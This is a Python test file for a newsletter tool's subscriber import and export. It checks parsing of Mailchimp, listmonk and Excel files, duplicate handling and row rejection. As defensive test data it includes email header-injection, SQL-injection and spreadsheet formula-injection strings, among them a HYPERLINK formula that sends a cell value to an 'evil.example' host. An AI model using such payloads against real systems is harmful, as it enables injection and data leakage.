"""`subscribers import`: real exports (Mailchimp, listmonk, Excel), counts, rejects, bad files."""

from __future__ import annotations

import csv
import json

import pytest

from support.subscriber_helpers import ok, open_db, write_csv
from support.workspace import DATA

from gbaletter.subscribers.models import Status
from gbaletter.subscribers.service import find_subscriber, is_suppressed, subscriber_history


def _report(result) -> dict:  # type: ignore[no-untyped-def]
    return json.loads(result.output)


def _import(run_cli, root, path, *args):  # type: ignore[no-untyped-def]
    return run_cli(root, "subscribers", "import", str(path), "--json", *args)


def test_mailchimp_export(workspace_dir, run_cli):
    report = _report(_import(run_cli, workspace_dir, DATA / "mailchimp_subscribed.csv"))
    assert {k: report[k] for k in ("added", "updated", "duplicates", "suppressed", "rejected")} == \
        {"added": 3, "updated": 0, "duplicates": 0, "suppressed": 0, "rejected": 0}
    with open_db(workspace_dir).reader() as session:
        chan = find_subscriber(session, "CHAN.TAIMAN@example.com")
        assert chan.name == "Tai Man Chan"
        assert chan.tag_names == ["finance", "technology"]
        assert chan.status == Status.ACTIVE
        assert chan.created_at.isoformat() == "2019-05-02T09:12:44+00:00"  # OPTIN_TIME
        assert chan.attributes["phone_number"] == "+852 2123 4567"
        assert chan.attributes["member_rating"] == "4"
        assert "notes" not in chan.attributes  # empty values are not kept
        li = find_subscriber(session, "li.wei@example.org")
        assert li.email == "Li.Wei@example.org"  # domain lower-cased, local part as given
        assert li.name == "伟 李"
        ana = find_subscriber(session, "ana.costa@example.net")
        assert ana.tag_names == []
        assert ana.attributes["notes"] == "met at the Macau fair"
        assert ana.consent_source == "import mailchimp_subscribed.csv"


def test_mailchimp_unsubscribed_export_suppresses(workspace_dir, run_cli):
    report = _report(_import(run_cli, workspace_dir, DATA / "mailchimp_unsubscribed.csv"))
    assert (report["added"], report["suppressed"]) == (0, 1)
    with open_db(workspace_dir).reader() as session:
        assert find_subscriber(session, "gone.wong@example.com").status == Status.UNSUBSCRIBED
        assert is_suppressed(session, "gone.wong@example.com")


def test_listmonk_export(workspace_dir, run_cli):
    report = _report(_import(run_cli, workspace_dir, DATA / "listmonk_export.csv"))
    assert (report["added"], report["suppressed"]) == (2, 1)
    with open_db(workspace_dir).reader() as session:
        zhou = find_subscriber(session, "zhou.min@example.com")
        assert zhou.attributes == {"city": "Shenzhen", "lang": "zh", "company": "Pearl Robotics",
                                   "uuid": "6b9c1a52-1c44-4d2e-9a3c-0c0a2f1e7d11",
                                   "updated_at": "2019-06-01T10:00:00+08:00"}
        assert zhou.created_at.isoformat() == "2019-03-14T00:21:05.123456+00:00"
        assert find_subscriber(session, "spam.trap@example.com").status == Status.UNSUBSCRIBED
        assert is_suppressed(session, "spam.trap@example.com")


def test_excel_file_with_bom_and_semicolons(workspace_dir, run_cli):
    report = _report(_import(run_cli, workspace_dir, DATA / "excel_semicolon_bom.csv"))
    assert report["added"] == 2
    with open_db(workspace_dir).reader() as session:
        mei = find_subscriber(session, "mei.leung@example.hk")
        assert (mei.name, mei.tag_names, mei.attributes) == \
            ("Mei Leung", ["5g", "technology"], {"city": "Hong Kong"})


def test_tag_and_status_options(workspace_dir, run_cli):
    ok(_import(run_cli, workspace_dir, DATA / "plain.csv", "--tag", "Event 2019", "--status",
               "unconfirmed"))
    with open_db(workspace_dir).reader() as session:
        kwok = find_subscriber(session, "kwok.ming@example.com")
        assert kwok.tag_names == ["event 2019", "policy", "technology"]
        assert kwok.status == Status.UNCONFIRMED


def test_running_an_import_again_is_safe(workspace_dir, run_cli):
    ok(_import(run_cli, workspace_dir, DATA / "plain.csv"))
    again = _report(_import(run_cli, workspace_dir, DATA / "plain.csv"))
    assert (again["added"], again["updated"], again["duplicates"]) == (0, 0, 2)
    changed = write_csv(workspace_dir, "email,name,tags,city\n"
                        "kwok.ming@example.com,Kwok Ming,finance,Zhuhai\n"
                        "tsang.wai@example.com,,transport,\n")
    report = _report(_import(run_cli, workspace_dir, changed))
    assert (report["added"], report["updated"], report["duplicates"]) == (0, 1, 1)
    with open_db(workspace_dir).reader() as session:
        kwok = find_subscriber(session, "kwok.ming@example.com")
        assert kwok.tag_names == ["finance", "policy", "technology"]  # tags are only added
        assert kwok.attributes == {"city": "Zhuhai"}
        assert find_subscriber(session, "tsang.wai@example.com").name == "Tsang Wai"


def test_rejected_rows_go_to_a_file_with_line_and_reason(workspace_dir, run_cli):
    members = write_csv(workspace_dir, (
        "email,name\n"
        "good@example.com,Good\n"
        "foo@,Missing domain\n"
        "a@b,No dot\n"
        "has space@example.com,Space\n"
        '"cr.lf@example.com\r\nBcc: victim@example.com",Header injection\n'
        ",No address\n"
        "also.good@example.com,Also good\n"))
    result = _import(run_cli, workspace_dir, members)
    assert result.exit_code == 3
    assert result.error_lines == ["error: 5 rows rejected; the reasons are in members.rejected.csv"]
    assert (_report(result)["added"], _report(result)["rejected"]) == (2, 5)
    with open(workspace_dir / "members.rejected.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["line", "reason", "email", "name"]
    assert [(row[0], row[3]) for row in rows[1:]] == [
        ("3", "Missing domain"), ("4", "No dot"), ("5", "Space"), ("6", "Header injection"),
        ("8", "No address")]
    reasons = [row[1] for row in rows[1:]]
    assert reasons[0] == "invalid address 'foo@': There must be something after the @-sign."
    assert "It should have a period" in reasons[1]
    assert "SPACE" in reasons[2]
    assert "U+000D" in reasons[3]
    assert reasons[4] == "no email address"


def test_duplicates_differing_only_in_case(workspace_dir, run_cli):
    members = write_csv(workspace_dir, "email,name\nMei@Example.com,First\nmei@example.COM,Second\n"
                                       "MEI@EXAMPLE.COM,Third\n")
    report = _report(_import(run_cli, workspace_dir, members))
    assert (report["added"], report["duplicates"]) == (1, 2)
    with open_db(workspace_dir).reader() as session:
        assert find_subscriber(session, "mei@example.com").name == "First"  # the first one wins


@pytest.mark.parametrize("on_the_list, counts", [
    (False, (3, 0, 1)),  # a repeat within the file
    (True, (2, 1, 1)),  # a repeat of an address already on the list: the first row updates it
])
def test_a_repeat_across_batches_keeps_the_first_row(workspace_dir, run_cli, on_the_list, counts):
    if on_the_list:
        ok(_import(run_cli, workspace_dir, write_csv(workspace_dir, "email,name\na@example.com,Before\n")))
    members = write_csv(workspace_dir, "email,name\na@example.com,First\nb@example.com,B\n"
                                       "c@example.com,C\nA@example.com,Later\n")
    report = _report(_import(run_cli, workspace_dir, members, "--batch-size", "2"))
    assert (report["added"], report["updated"], report["duplicates"]) == counts
    with open_db(workspace_dir).reader() as session:
        assert find_subscriber(session, "a@example.com").name == "First"


def test_a_file_without_an_email_column(workspace_dir, run_cli):
    members = write_csv(workspace_dir, "name,city\nMei,Hong Kong\n")
    result = _import(run_cli, workspace_dir, members)
    assert result.exit_code == 1
    assert result.error_lines == ["error: members.csv: no email column in the header (found "
                                  "'name', 'city'); expected 'email' or 'Email Address'"]


def test_a_file_in_another_encoding_is_refused_whole(workspace_dir, run_cli):
    members = write_csv(workspace_dir, "email,name\nok@example.com,Ok\ncafe@example.com,Café\n",
                        encoding="latin-1")
    result = _import(run_cli, workspace_dir, members)
    assert result.exit_code == 1
    assert result.error_lines == ["error: members.csv: line 3: not UTF-8 (byte 0xe9); save the "
                                  "file as UTF-8 and import it again"]
    with open_db(workspace_dir).reader() as session:
        assert find_subscriber(session, "ok@example.com") is None


def test_an_attributes_column_that_is_not_json(workspace_dir, run_cli):
    members = write_csv(workspace_dir, 'email,attributes\nok@example.com,"{""city"": ""Macau""}"\n'
                                       "bad@example.com,{city: Macau}\n"
                                       'list@example.com,"[1, 2]"\n')
    result = _import(run_cli, workspace_dir, members)
    assert result.exit_code == 3
    assert result.error_lines == ["error: 2 rows rejected; the reasons are in members.rejected.csv"]
    with open(workspace_dir / "members.rejected.csv", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [row[:2] for row in rows] == [
        ["3", "attributes are not valid JSON (Expecting property name enclosed in double quotes "
              "at character 2)"],
        ["4", "attributes must be a JSON object ({...})"]]


def test_sql_looking_names_and_tags_are_stored_as_text(workspace_dir, run_cli):
    members = write_csv(workspace_dir, "email,name,tags,city\n"
                                       "bobby@example.com,\"Robert'); DROP TABLE subscribers;--\","
                                       "\"x' OR '1'='1\",\"'; DELETE FROM tags; --\"\n")
    ok(_import(run_cli, workspace_dir, members))
    with open_db(workspace_dir).reader() as session:
        bobby = find_subscriber(session, "bobby@example.com")
        assert bobby.name == "Robert'); DROP TABLE subscribers;--"
        assert bobby.tag_names == ["x' or '1'='1"]
        assert bobby.attributes == {"city": "'; DELETE FROM tags; --"}
    listed = ok(run_cli(workspace_dir, "subscribers", "list", "--where", "tag:\"x' or '1'='1\""))
    assert "bobby@example.com" in listed


def test_a_removed_address_is_not_imported_again(workspace_dir, run_cli):
    ok(_import(run_cli, workspace_dir, DATA / "plain.csv"))
    ok(run_cli(workspace_dir, "subscribers", "remove", "kwok.ming@example.com"))
    report = _report(_import(run_cli, workspace_dir, DATA / "plain.csv"))
    assert (report["added"], report["suppressed"], report["duplicates"]) == (0, 1, 1)
    with open_db(workspace_dir).reader() as session:
        assert find_subscriber(session, "kwok.ming@example.com") is None


def test_an_unsubscribe_in_the_file_applies_to_an_existing_subscriber(workspace_dir, run_cli):
    ok(_import(run_cli, workspace_dir, DATA / "plain.csv"))
    update = write_csv(workspace_dir, "email,status\nTSANG.WAI@example.com,unsubscribed\n")
    assert _report(_import(run_cli, workspace_dir, update))["suppressed"] == 1
    with open_db(workspace_dir).reader() as session:
        history = subscriber_history(session, "tsang.wai@example.com")
    assert history.subscriber.status == Status.UNSUBSCRIBED
    assert history.events[0].reason == "unsubscribed in members.csv, line 2"


def test_dry_run_saves_nothing(workspace_dir, run_cli):
    result = run_cli(workspace_dir, "subscribers", "import", str(DATA / "plain.csv"), "--dry-run")
    assert ok(result).startswith("dry run: nothing was saved\nadded       2\n")
    with open_db(workspace_dir).reader() as session:
        assert find_subscriber(session, "kwok.ming@example.com") is None


def test_unknown_status_value_is_a_rejected_row(workspace_dir, run_cli):
    members = write_csv(workspace_dir, "email,status\na@example.com,maybe\n")
    result = _import(run_cli, workspace_dir, members)
    assert result.exit_code == 3
    assert result.error_lines == ["error: 1 row rejected; the reasons are in members.rejected.csv"]
    assert "unknown status 'maybe'" in (workspace_dir / "members.rejected.csv").read_text()


@pytest.mark.parametrize("text, message", [
    ("", "members.csv: empty file"),
    ("email\n\"unclosed@example.com\n" + "x" * 140_000,
     "members.csv: line 3: field larger than field limit (131072)"),
])
def test_unreadable_files(workspace_dir, run_cli, text, message):
    result = _import(run_cli, workspace_dir, write_csv(workspace_dir, text))
    assert result.exit_code == 1
    assert result.error_lines == [f"error: {message}"]


def test_export_reads_back_the_same_list(workspace_dir, tmp_path, run_cli, other_database, monkeypatch):
    for name in ("mailchimp_subscribed.csv", "listmonk_export.csv", "excel_semicolon_bom.csv"):
        ok(run_cli(workspace_dir, "subscribers", "import", str(DATA / name)))
    exported = tmp_path / "export.csv"
    assert ok(run_cli(workspace_dir, "subscribers", "export", "-o", str(exported))) == \
        f"8 subscribers written to {exported}\n"
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "gbaletter.toml").write_text((workspace_dir / "gbaletter.toml").read_text())
    monkeypatch.setenv("GBALETTER_DATABASE_URL", other_database)
    report = _report(_import(run_cli, copy, exported))
    assert (report["added"], report["suppressed"]) == (7, 1)
    again = tmp_path / "again.csv"
    ok(run_cli(copy, "subscribers", "export", "-o", str(again)))
    assert again.read_text(encoding="utf-8") == exported.read_text(encoding="utf-8")


def test_cells_a_spreadsheet_would_run_are_guarded_and_read_back(workspace_dir, tmp_path, run_cli,
                                                                  other_database, monkeypatch):
    """Formula injection (issue 23 #2): a name from the public form such as `=HYPERLINK(...)`."""
    planted = ['=HYPERLINK("http://evil.example/?"&A1,"點我")', "+1 555", "-2+3", "@SUM(1)",
               "'Tis Ann", "Plain 陳"]
    members = write_csv(workspace_dir, "email,name,tags\n" + "".join(
        f'p{i}@example.com,"{name.replace(chr(34), chr(34) * 2)}",=cmd|news\n'
        for i, name in enumerate(planted)) + '"=1+1",=bad address\n')
    assert _import(run_cli, workspace_dir, members).exit_code == 3  # the bad address is rejected
    with open(workspace_dir / "members.rejected.csv", encoding="utf-8", newline="") as fh:
        rejected = list(csv.reader(fh))[1]
    assert rejected[2:] == ["'=1+1", "'=bad address"]
    exported = tmp_path / "export.csv"
    ok(run_cli(workspace_dir, "subscribers", "export", "-o", str(exported)))
    with open(exported, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert {row["name"] for row in rows} == {"'" + name for name in planted[:5]} | {"Plain 陳"}
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "gbaletter.toml").write_text((workspace_dir / "gbaletter.toml").read_text())
    monkeypatch.setenv("GBALETTER_DATABASE_URL", other_database)
    assert _report(_import(run_cli, copy, exported))["added"] == len(planted)
    again = tmp_path / "again.csv"
    ok(run_cli(copy, "subscribers", "export", "-o", str(again)))
    assert again.read_text(encoding="utf-8") == exported.read_text(encoding="utf-8")
